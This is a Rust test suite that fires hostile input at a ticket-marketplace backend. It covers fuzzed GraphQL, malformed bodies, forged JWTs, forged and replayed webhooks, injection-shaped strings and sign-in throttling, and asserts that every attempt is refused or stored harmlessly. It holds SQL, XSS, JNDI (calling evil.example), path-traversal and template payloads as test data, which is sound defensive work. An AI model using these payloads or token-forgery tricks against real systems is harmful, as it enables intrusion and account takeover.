//! Hostile input against the real system (NATS, command-service, projector, PostgreSQL): mutated
//! GraphQL, malformed JSON, oversized bodies, forged and stale tokens, forged, replayed and stale
//! webhooks, injection-shaped strings and sign-in throttling. Nothing may answer 5xx, panic, or
//! change what it must not; each test prints its figures.
//!
//! Cross-origin requests and WebSocket handshakes are covered in `http.rs`
//! (`protection_json_only_origin_checks_and_depth_limit`,
//! `a_websocket_handshake_with_the_cookie_from_a_foreign_origin_is_refused`, and the CORS test).

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use axum::body::Body;
use axum::http::{Request as HttpRequest, StatusCode, header};
use serde_json::{Value, json};
use tower::ServiceExt;

mod common;
use common::{SECRET, Stack, stack, stack_full};
use testkit::Rng;

const SIGN_UP: &str = "mutation($e: String!) { signUp(email: $e, password: \"correct horse\") { id } }";

/// Sends raw bytes to `/graphql`; answers the status, the JSON body (`Null` when not JSON) and
/// any new session cookie.
async fn post(stack: &Stack, body: impl Into<Body>, cookie: Option<&str>) -> (StatusCode, Value, Option<String>) {
    let mut request = HttpRequest::post("/graphql").header(header::CONTENT_TYPE, "application/json");
    if let Some(cookie) = cookie {
        request = request.header(header::COOKIE, format!("session={cookie}"));
    }
    let response =
        stack.app.clone().oneshot(request.body(body.into()).unwrap_or_default()).await.unwrap_or_else(|e| match e {});
    let status = response.status();
    let cookie = response
        .headers()
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok()?.split(';').next()?.strip_prefix("session=").map(str::to_owned))
        .find(|token| !token.is_empty());
    let bytes = axum::body::to_bytes(response.into_body(), 1 << 22).await.unwrap_or_default();
    (status, serde_json::from_slice(&bytes).unwrap_or(Value::Null), cookie)
}

async fn gql(stack: &Stack, cookie: Option<&str>, query: &str, variables: Value) -> Value {
    let (status, body, _) = post(stack, json!({"query": query, "variables": variables}).to_string(), cookie).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body
}

fn code(body: &Value) -> &str {
    body["errors"][0]["extensions"]["code"].as_str().unwrap_or("")
}

/// Signs up a fresh user; answers the session token and the account id.
async fn user(stack: &Stack, name: &str) -> (String, String) {
    let email = format!("{name}-{}@example.com", uuid::Uuid::new_v4().simple());
    let (status, body, cookie) =
        post(stack, json!({"query": SIGN_UP, "variables": {"e": email}}).to_string(), None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    (cookie.unwrap_or_else(|| panic!("no cookie: {body}")), body["data"]["signUp"]["id"].as_str().unwrap_or("").into())
}

const TOKENS: &[&str] = &[
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    ":",
    "$",
    "!",
    "\"",
    "...",
    "@include(if: true)",
    "@skip(if: $x)",
    "__typename",
    "fragment F on Query { me { id } }",
    "...F",
    "null",
    "-9223372036854775809",
    "1e400",
    "\\u0000",
    "\u{0}",
    "\u{202e}",
    "💥",
    "#",
    "query",
    "mutation",
    "subscription",
    "on",
    "=",
    "&",
    "'",
    "\\",
];

/// A random JSON value, `depth` levels deep at most.
fn value(rng: &mut Rng, depth: usize) -> Value {
    match rng.below(if depth == 0 { 6 } else { 8 }) {
        0 => Value::Null,
        1 => json!(rng.below(2) == 0),
        2 => json!(*rng.pick(&[i64::MIN, -1, 0, 1, 2_147_483_648, i64::MAX])),
        3 => json!(*rng.pick(&[1e308, -0.5, f64::MIN_POSITIVE])),
        4 => json!(*rng.pick(&["", "x", "00000000-0000-0000-0000-000000000000", "' OR 1=1 --", "\u{0}", "<script>"])),
        5 => json!("A".repeat(rng.pick(&[1_usize, 1_000, 50_000]).to_owned())),
        6 => Value::Array((0..rng.below(4)).map(|_| value(rng, depth - 1)).collect()),
        _ => {
            let mut object = serde_json::Map::new();
            for key in ["t", "o", "e", "id", "x"].iter().take(rng.below(4)) {
                object.insert((*key).into(), value(rng, depth - 1));
            }
            Value::Object(object)
        }
    }
}

/// One mutation of a valid operation.
fn mutate(rng: &mut Rng, source: &str) -> String {
    let mut text: Vec<char> = source.chars().collect();
    for _ in 0..=rng.below(3) {
        let at = rng.below(text.len() + 1);
        match rng.below(5) {
            0 if !text.is_empty() => {
                let end = (at + rng.below(12)).min(text.len());
                text.drain(at.min(end)..end);
            }
            1 if !text.is_empty() => {
                let end = (at + rng.below(40)).min(text.len());
                let span: Vec<char> = text[at.min(end)..end].to_vec();
                text.splice(at..at, span);
            }
            2 => {
                let token: Vec<char> = format!(" {} ", rng.pick(TOKENS)).chars().collect();
                text.splice(at..at, token);
            }
            3 => text.truncate(at),
            _ if !text.is_empty() => {
                let i = rng.below(text.len());
                text[i] = *rng.pick(&['{', '}', '(', ')', '"', '$', ':', '!', ' ', 'x', '0', '\u{0}']);
            }
            _ => {}
        }
    }
    text.into_iter().collect()
}

/// Abusive shapes: deep nesting, alias and directive floods, fragment cycles, batches.
fn abusive(n: usize) -> String {
    let deep = |levels: usize| {
        format!("{{ myOrders {{ nodes {{ {} id {} }} }} }}", "payment { order { ".repeat(levels), "} } ".repeat(levels))
    };
    let aliases = |count: usize| -> String {
        (0..count).map(|i| format!("a{i}: tickets(first: 100) {{ nodes {{ id title }} }} ")).collect()
    };
    match n % 7 {
        0 => json!({"query": deep(n % 20 + 4)}),
        1 => json!({"query": format!("{{ {} }}", aliases(n % 300 + 300))}),
        2 => {
            json!({"query": format!("{{ {} }}", (0..5_000).map(|i| format!("a{i}: __typename ")).collect::<String>())})
        }
        3 => json!({"query": format!("{{ __typename {} }}", "@include(if: true) ".repeat(2_000))}),
        4 => json!({"query": "query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }"}),
        5 => json!((0..200).map(|_| json!({"query": "{ __typename }"})).collect::<Vec<_>>()),
        _ => json!({"query": format!("query {} {{ __typename }}", "Q".repeat(60_000))}),
    }
    .to_string()
}

#[tokio::test]
async fn mutated_graphql_never_answers_5xx_and_runs_into_the_limits() {
    let stack = stack().await;
    let (cookie, _) = user(&stack, "fuzzer").await;
    let corpus_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../web/graphql");
    let mut corpus = Vec::new();
    for entry in std::fs::read_dir(&corpus_dir).unwrap_or_else(|e| panic!("{}: {e}", corpus_dir.display())) {
        let text = std::fs::read_to_string(entry.unwrap_or_else(|e| panic!("{e}")).path()).unwrap_or_default();
        // One operation per entry: split at each top-level keyword.
        for operation in text.split("\nquery ").chain(text.split("\nmutation ")).chain(text.split("\nsubscription ")) {
            corpus.push(operation.to_owned());
        }
    }
    let cases: usize = std::env::var("HOSTILE_CASES").ok().and_then(|s| s.parse().ok()).unwrap_or(1_500);
    let seed = std::env::var("HOSTILE_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or(0x5eed_u64);
    let mut rng = Rng::new(seed);
    let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
    let mut codes: BTreeMap<String, usize> = BTreeMap::new();
    let (mut nested, mut complex) = (0, 0);
    let started = Instant::now();
    for n in 0..cases {
        let body = if n % 10 == 9 {
            abusive(n / 10)
        } else {
            let source = rng.pick(&corpus).clone();
            let query = mutate(&mut rng, &source);
            // Variables are an object (anything else is refused before the query is parsed).
            let variables: serde_json::Map<String, Value> = ["t", "o", "e", "p", "id", "first", "after", "status"]
                .iter()
                .map(|k| ((*k).to_owned(), value(&mut rng, 3)))
                .collect();
            json!({"query": query, "variables": variables}).to_string()
        };
        let signed_in = (n % 2 == 0).then_some(cookie.as_str());
        let (status, response, _) = post(&stack, body.clone(), signed_in).await;
        *statuses.entry(status.as_u16()).or_default() += 1;
        assert!(!status.is_server_error(), "case {n} (seed {seed}) answered {status}: {body:.300} → {response}");
        assert!(!response.is_null(), "case {n} (seed {seed}): {status} without a JSON body for {body:.300}");
        for error in response["errors"].as_array().into_iter().flatten() {
            let code = error["extensions"]["code"].as_str().unwrap_or("(GraphQL validation)");
            assert_ne!(code, "INTERNAL_SERVER_ERROR", "case {n} (seed {seed}): {body:.300} → {response}");
            *codes.entry(code.to_owned()).or_default() += 1;
            let message = error["message"].as_str().unwrap_or("").to_lowercase();
            nested += usize::from(message.contains("nested"));
            complex += usize::from(message.contains("complex"));
        }
    }
    // Still serving.
    let alive = gql(&stack, Some(&cookie), "{ me { id } }", json!({})).await;
    assert!(alive["data"]["me"]["id"].is_string(), "{alive}");
    eprintln!("hostile: {cases} mutated or abusive GraphQL requests in {:.1?} (seed {seed})", started.elapsed());
    eprintln!("hostile:   HTTP statuses: {statuses:?}");
    eprintln!("hostile:   error codes: {codes:?}");
    eprintln!(
        "hostile:   depth limit hit {nested}×, complexity limit hit {complex}×, 413 {}×",
        statuses.get(&413).unwrap_or(&0)
    );
    assert!(nested > 0 && complex > 0, "the limits were never reached");
}

#[tokio::test]
async fn malformed_json_and_oversized_bodies_are_refused_without_a_5xx() {
    let stack = stack().await;
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let bodies: Vec<(&str, Vec<u8>)> = vec![
        ("empty", b"".to_vec()),
        ("truncated", b"{\"query\": \"{ me".to_vec()),
        ("array of nothing", b"[]".to_vec()),
        ("null", b"null".to_vec()),
        ("a number", b"42".to_vec()),
        ("query is a number", br#"{"query": 5}"#.to_vec()),
        ("variables is a string", br#"{"query": "{ __typename }", "variables": "x"}"#.to_vec()),
        ("invalid UTF-8", b"{\"query\": \"\xff\xfe\"}".to_vec()),
        ("nested 100,000 deep", deep.into_bytes()),
        ("10 MB", vec![b' '; 10 << 20]),
    ];
    let mut seen = Vec::new();
    for (name, body) in bodies {
        let (status, response, _) = post(&stack, body, None).await;
        assert!(
            matches!(status, StatusCode::BAD_REQUEST | StatusCode::PAYLOAD_TOO_LARGE | StatusCode::OK),
            "{name}: {status} {response}"
        );
        if status == StatusCode::OK {
            assert!(response["errors"].is_array(), "{name}: accepted as valid: {response}");
        }
        seen.push(format!("{name} → {}", status.as_u16()));
    }
    eprintln!("hostile: malformed bodies: {}", seen.join(", "));
}

/// A token whose header and payload are as given, signed with `key` (or unsigned).
fn token(header: &Value, payload: &Value, key: Option<&[u8]>) -> String {
    use base64::Engine;
    let encode = |bytes: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes);
    let signing_input = format!("{}.{}", encode(header.to_string().as_bytes()), encode(payload.to_string().as_bytes()));
    let signature = key.map_or(String::new(), |key| {
        jsonwebtoken::crypto::sign(
            signing_input.as_bytes(),
            &jsonwebtoken::EncodingKey::from_secret(key),
            jsonwebtoken::Algorithm::HS256,
        )
        .unwrap_or_else(|e| panic!("{e}"))
    });
    format!("{signing_input}.{signature}")
}

#[tokio::test]
async fn forged_expired_and_revoked_tokens_are_anonymous() {
    let stack = stack().await;
    let (cookie, id) = user(&stack, "victim").await;
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    let claims = |exp: i64| json!({"sub": id, "jti": uuid::Uuid::new_v4(), "email": "victim@example.com", "roles": ["ADMIN"], "iat": now, "exp": exp});
    let hs256 = json!({"alg": "HS256", "typ": "JWT"});
    let revoked = {
        let (cookie, _) = user(&stack, "signs-out").await;
        let out = gql(&stack, Some(&cookie), "mutation { signOut }", json!({})).await;
        assert_eq!(out["data"]["signOut"], true, "{out}");
        cookie
    };
    let forged = [
        ("alg none", token(&json!({"alg": "none", "typ": "JWT"}), &claims(now + 3600), None)),
        ("alg none, empty signature of HS256 header", token(&hs256, &claims(now + 3600), None)),
        ("HS512 with the right key", {
            let header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS512);
            jsonwebtoken::encode(
                &header,
                &claims(now + 3600),
                &jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes()),
            )
            .unwrap_or_default()
        }),
        ("a wrong key", token(&hs256, &claims(now + 3600), Some(b"not-the-secret-not-the-secret-not-the"))),
        ("expired a minute ago", token(&hs256, &claims(now - 60), Some(SECRET.as_bytes()))),
        ("no expiry", {
            let mut payload = claims(now);
            payload.as_object_mut().map(|o| o.remove("exp"));
            token(&hs256, &payload, Some(SECRET.as_bytes()))
        }),
        ("payload swapped under a valid signature", {
            let parts: Vec<&str> = cookie.split('.').collect();
            let other = token(&hs256, &claims(now + 3600), None);
            let payload = other.split('.').nth(1).unwrap_or_default().to_owned();
            format!("{}.{payload}.{}", parts[0], parts.get(2).unwrap_or(&""))
        }),
        ("signed out", revoked),
        ("garbage", "a.b.c".to_owned()),
    ];
    for (name, forged) in &forged {
        let me = gql(&stack, Some(forged), "{ me { id } }", json!({})).await;
        assert_eq!(me["data"]["me"], Value::Null, "{name}: {me}");
        let listed = gql(
            &stack,
            Some(forged),
            "mutation { createTicket(title: \"Forged\", priceCents: 100) { id } }",
            json!({}),
        )
        .await;
        assert_eq!(code(&listed), "UNAUTHENTICATED", "{name}: {listed}");
    }
    // The genuine one still works.
    let me = gql(&stack, Some(&cookie), "{ me { id } }", json!({})).await;
    assert_eq!(me["data"]["me"]["id"], id.as_str());
    eprintln!(
        "hostile: {} forged, expired or revoked tokens all anonymous: {}",
        forged.len(),
        forged.iter().map(|(n, _)| *n).collect::<Vec<_>>().join(", ")
    );
}

const WEBHOOK_SECRET: &str = "whsec_hostile_test";

async fn webhook(stack: &Stack, body: &str, signature: Option<String>) -> StatusCode {
    let mut request = HttpRequest::post("/webhooks/payments").header(header::CONTENT_TYPE, "application/json");
    if let Some(signature) = signature {
        request = request.header("stripe-signature", signature);
    }
    let request = request.body(Body::from(body.to_owned())).unwrap_or_default();
    stack.app.clone().oneshot(request).await.unwrap_or_else(|e| match e {}).status()
}

#[tokio::test]
async fn forged_stale_and_replayed_webhooks_change_nothing_twice() {
    let stack = stack_full(900, |c| c.payment_webhook_secret = WEBHOOK_SECRET.into(), |_| {}).await;
    let (seller, _) = user(&stack, "seller").await;
    let (buyer, _) = user(&stack, "buyer").await;
    let listed = gql(
        &stack,
        Some(&seller),
        "mutation { createTicket(title: \"Late train\", priceCents: 2500) { id } }",
        json!({}),
    )
    .await;
    let ticket = listed["data"]["createTicket"]["id"].as_str().unwrap_or_default().to_owned();
    let held =
        gql(&stack, Some(&buyer), "mutation($t: ID!) { createOrder(ticketId: $t) { id } }", json!({"t": ticket})).await;
    let order = held["data"]["createOrder"]["id"].as_str().unwrap_or_default().to_owned();
    let paid = gql(
        &stack,
        Some(&buyer),
        "mutation($o: ID!) { payOrder(orderId: $o, token: \"tok_async\") { status providerRef } }",
        json!({"o": order}),
    )
    .await;
    assert_eq!(paid["data"]["payOrder"]["status"], "PENDING", "{paid}");
    let provider_ref = paid["data"]["payOrder"]["providerRef"].as_str().unwrap_or_default().to_owned();
    let body = json!({
        "id": "evt_hostile_1",
        "type": "payment_intent.succeeded",
        "data": {"object": {"id": provider_ref, "amount": 2500, "currency": "usd", "metadata": {"order_id": order}}}
    })
    .to_string();
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    let sign = |secret: &str, at: i64, body: &str| command_service::payments::webhook::sign(secret, at, body);
    let status_of_order = || async {
        let seen = gql(&stack, Some(&buyer), "query($o: ID!) { order(id: $o) { status } }", json!({"o": order})).await;
        seen["data"]["order"]["status"].as_str().unwrap_or_default().to_owned()
    };

    let refused = [
        ("unsigned", webhook(&stack, &body, None).await),
        ("signed with another secret", webhook(&stack, &body, Some(sign("whsec_someone_else", now, &body))).await),
        ("signed an hour ago", webhook(&stack, &body, Some(sign(WEBHOOK_SECRET, now - 3600, &body))).await),
        ("signed an hour ahead", webhook(&stack, &body, Some(sign(WEBHOOK_SECRET, now + 3600, &body))).await),
        ("signature of another body", webhook(&stack, &body, Some(sign(WEBHOOK_SECRET, now, "{}"))).await),
        ("malformed signature header", webhook(&stack, &body, Some("t=abc,v1=zz".into())).await),
        ("signed garbage", webhook(&stack, "not json", Some(sign(WEBHOOK_SECRET, now, "not json"))).await),
    ];
    for (name, status) in &refused {
        assert!(status.is_client_error(), "{name}: {status}");
    }
    assert_eq!(status_of_order().await, "AWAITING_PAYMENT", "a refused webhook changed the order");

    // The genuine one settles it; the same event again changes nothing.
    for attempt in 0..3 {
        let status = webhook(&stack, &body, Some(sign(WEBHOOK_SECRET, now, &body))).await;
        assert!(status.is_success(), "delivery {attempt}: {status}");
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    while status_of_order().await != "COMPLETE" {
        assert!(Instant::now() < deadline, "the genuine webhook did not complete the order");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let history =
        gql(&stack, Some(&seller), "query($t: ID!) { ticket(id: $t) { history { type } } }", json!({"t": ticket}))
            .await;
    let kinds: Vec<&str> = history["data"]["ticket"]["history"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|e| e["type"].as_str())
        .collect();
    assert_eq!(kinds.iter().filter(|k| **k == "PaymentSucceeded").count(), 1, "{kinds:?}");
    eprintln!(
        "hostile: webhooks refused: {}; the genuine one delivered 3× settled once ({kinds:?})",
        refused.iter().map(|(n, s)| format!("{n} → {}", s.as_u16())).collect::<Vec<_>>().join(", ")
    );
}

#[tokio::test]
async fn injection_shaped_strings_round_trip_unchanged() {
    let stack = stack().await;
    let (seller, _) = user(&stack, "quoting").await;
    let titles = [
        "'; DROP TABLE read.tickets; --",
        "Robert'); DELETE FROM accounts WHERE ('1'='1",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}} ${7*7} #{7*7} %{7*7}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "\" OR \"\"=\"",
        "\\\\server\\share\\%00",
        "UNION SELECT password_hash FROM accounts",
        "emoji 🎫 and RTL \u{202e}txet",
        "$where: 1 == 1 || {\"$gt\": \"\"}",
    ];
    for title in titles {
        let listed = gql(
            &stack,
            Some(&seller),
            "mutation($t: String!) { createTicket(title: $t, priceCents: 100) { id title } }",
            json!({"t": title}),
        )
        .await;
        assert_eq!(listed["data"]["createTicket"]["title"], title, "{listed}");
        let id = listed["data"]["createTicket"]["id"].as_str().unwrap_or_default();
        let read = gql(&stack, None, "query($t: ID!) { ticket(id: $t) { title } }", json!({"t": id})).await;
        assert_eq!(read["data"]["ticket"]["title"], title, "{read}");
    }
    // Control characters (a NUL cannot even be stored by PostgreSQL) are refused as input.
    for title in ["before\u{0}after", "two\nlines", "tab\there"] {
        let refused = gql(
            &stack,
            Some(&seller),
            "mutation($t: String!) { createTicket(title: $t, priceCents: 100) { id } }",
            json!({"t": title}),
        )
        .await;
        assert_eq!(code(&refused), "BAD_USER_INPUT", "{title:?}: {refused}");
        assert_eq!(refused["errors"][0]["extensions"]["field"], "title", "{refused}");
    }
    let listed = gql(&stack, None, "{ tickets(first: 100) { nodes { title } } }", json!({})).await;
    let count = listed["data"]["tickets"]["nodes"].as_array().map_or(0, Vec::len);
    assert_eq!(count, titles.len(), "{listed}");
    eprintln!(
        "hostile: {} injection-shaped titles stored and read back unchanged; NUL, line break and tab refused",
        titles.len()
    );
}

#[tokio::test]
async fn sign_in_throttling_engages_and_holds_for_the_right_password() {
    let stack = stack().await;
    let email = format!("target-{}@example.com", uuid::Uuid::new_v4().simple());
    gql(&stack, None, SIGN_UP, json!({"e": email})).await;
    let sign_in = "mutation($e: String!, $p: String!) { signIn(email: $e, password: $p) { id } }";
    let mut answers = Vec::new();
    for _ in 0..8 {
        let answer = gql(&stack, None, sign_in, json!({"e": email, "p": "guess"})).await;
        answers.push(code(&answer).to_owned());
    }
    // Exactly SIGNIN_MAX_FAILURES wrong guesses are checked, and every one after is refused.
    let limit = usize::try_from(command_service::config::Config::with_nats_url("nats://unused").signin_max_failures)
        .unwrap_or(usize::MAX);
    let first_limited = answers.iter().position(|c| c == "RATE_LIMITED");
    assert_eq!(first_limited, Some(limit), "{answers:?}");
    assert!(answers[..limit].iter().all(|c| c == "UNAUTHENTICATED"), "{answers:?}");
    assert!(answers[limit..].iter().all(|c| c == "RATE_LIMITED"), "{answers:?}");
    let right = gql(&stack, None, sign_in, json!({"e": email, "p": "correct horse"})).await;
    assert_eq!(code(&right), "RATE_LIMITED", "the right password is refused while throttled: {right}");
    eprintln!("hostile: sign-in throttled after {} failures: {answers:?}", first_limited.unwrap_or(0));
}
